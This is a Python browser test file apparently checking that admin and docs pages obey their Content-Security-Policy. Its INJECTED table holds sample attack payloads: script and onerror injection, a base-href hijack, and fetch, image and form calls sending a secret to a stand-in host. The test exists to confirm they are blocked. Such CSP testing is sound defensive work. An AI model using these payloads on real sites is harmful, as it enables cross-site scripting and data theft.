"""No page does what its policy refuses, and the policy refuses what an injected text would do."""

from __future__ import annotations

from typing import Any

import pytest

from tests.admin.conftest import PASSWORD, join, new_user, signed_in
from tests.admin.rows import addresses
from tests.browser.conftest import Browser
from tests.conftest import Caller

pytestmark = pytest.mark.slow


@pytest.fixture(params=["admin", "operator"])
def person(request: pytest.FixtureRequest, alice: Caller) -> Any:
    user = new_user(password=PASSWORD, is_superuser=request.param == "operator")
    if request.param == "admin":
        join(user, alice.account, "admin")
    return user


def pages_of(person: Any, caller: Caller) -> list[str]:
    """Whole pages that open for this person; found without the browser, as that is slower."""
    client = signed_in(person)
    answers = {f"/admin/{address}": client.get(address) for address in addresses(caller)}
    return [path for path, answer in answers.items() if answer.status_code == 200 and b"<html" in answer.content]


def test_no_page_is_against_its_policy(browser: Browser, person: Any, alice: Caller) -> None:
    pages = pages_of(person, alice)
    assert len(pages) > 30

    browser.sign_in(person)
    for path in pages:
        browser.open(path)
        assert browser.errors == [], path


def test_a_message_is_not_either(browser: Browser, person: Any, alice: Caller) -> None:
    browser.sign_in(person)
    browser.open("/admin/catalog/profile/nope/change/")

    assert "does not exist" in browser.text()
    # The browser says of each page that is missing that it is missing.
    assert len(browser.errors) == 1 and "404" in browser.errors.pop()


def test_neither_are_the_pages_for_everyone(browser: Browser) -> None:
    for path in (
        "/console/sign-in",
        "/docs/errors#unauthorized",
        "/docs/",
        "/docs/statistics",
        "/docs/search?q=interval",
    ):
        browser.open(path)
    for path in ("/docs/reference", "/docs/reference/evaluate"):
        browser.open(path)
    browser.open("/docs/try")
    browser.page.click("#operations-tag-evaluate .opblock-summary-control, .opblock-summary-control >> nth=0")
    browser.page.wait_for_selector(".opblock-body")


INJECTED = {
    "script-src-elem": "const one = document.createElement('script'); one.text = 'window.bad = 1'; document.body.append(one)",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.bad = 1\">')",
    "style-src-elem": "document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')",
    "img-src": "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://stranger.invalid/?secret\">')",
    "connect-src": "fetch('https://stranger.invalid/?secret').catch(() => null)",
    "form-action": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://stranger.invalid/\"></form>'); document.forms[document.forms.length - 1].submit()",
    "base-uri": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://stranger.invalid/\">')",
}


@pytest.mark.parametrize("directive", INJECTED)
@pytest.mark.parametrize("path", ["/docs/errors", "/console/sign-in"])
def test_what_is_injected_is_refused_and_seen(browser: Browser, path: str, directive: str) -> None:
    left: list[str] = []
    browser.page.route("https://stranger.invalid/**", lambda route: (left.append(route.request.url), route.abort()))
    browser.open(path)

    with browser.page.expect_console_message(lambda line: line.text.startswith(f"policy {directive}")):
        browser.page.evaluate(f"() => {{ {INJECTED[directive]} }}")

    assert browser.page.evaluate("() => window.bad") is None
    assert left == []
    # What was refused is no fault here.
    browser.errors.clear()
    browser.requests.clear()
